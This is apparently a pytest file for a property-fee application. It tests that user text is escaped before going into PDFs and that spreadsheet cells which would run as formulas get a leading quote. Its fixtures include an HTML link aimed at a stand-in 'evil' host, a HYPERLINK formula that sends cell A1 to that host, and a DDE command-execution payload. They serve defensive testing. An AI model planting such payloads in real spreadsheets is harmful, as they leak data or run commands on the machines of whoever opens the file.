"""User text in PDFs and spreadsheets (propfee.documents)."""

from __future__ import annotations

from datetime import date
from decimal import Decimal

import pytest

from propfee.documents import pdf_text, spreadsheet_cell

HOSTILE = '<a href="http://evil">x</a><img src="http://evil/x.png"/>'


def test_pdf_text_escapes_markup_and_entities() -> None:
    assert pdf_text(HOSTILE) == (
        '&lt;a href="http://evil"&gt;x&lt;/a&gt;&lt;img src="http://evil/x.png"/&gt;'
    )
    assert pdf_text("A&B <font size=40>") == "A&amp;B &lt;font size=40&gt;"
    assert pdf_text("&nbsp;") == "&amp;nbsp;"
    assert pdf_text(None) == ""
    assert pdf_text(12) == "12"
    assert pdf_text("阳光花园 3-2-101") == "阳光花园 3-2-101"


def test_pdf_text_is_printed_literally_by_reportlab() -> None:
    styles = pytest.importorskip("reportlab.lib.styles")  # the services' dependency
    platypus = pytest.importorskip("reportlab.platypus")
    fragments = platypus.Paragraph(pdf_text(HOSTILE + "<b>"), styles.ParagraphStyle("p")).frags
    assert "".join(f.text for f in fragments) == HOSTILE + "<b>"
    assert not any(getattr(f, "link", None) or getattr(f, "cbDefn", None) for f in fragments)


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://evil/?"&A1,"click")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1:A2)",
        "\t=1",
        "\r=1",
    ],
)
def test_text_a_spreadsheet_would_run_gets_a_quote(text: str) -> None:
    assert spreadsheet_cell(text) == "'" + text


@pytest.mark.parametrize(
    "value",
    [-1250, 0, 3.5, Decimal("-12.50"), None, date(2026, 1, 1), "阳光花园", "1-101", "a=b", ""],
)
def test_numbers_and_ordinary_text_are_unchanged(value: object) -> None:
    assert spreadsheet_cell(value) == value
    assert type(spreadsheet_cell(value)) is type(value)
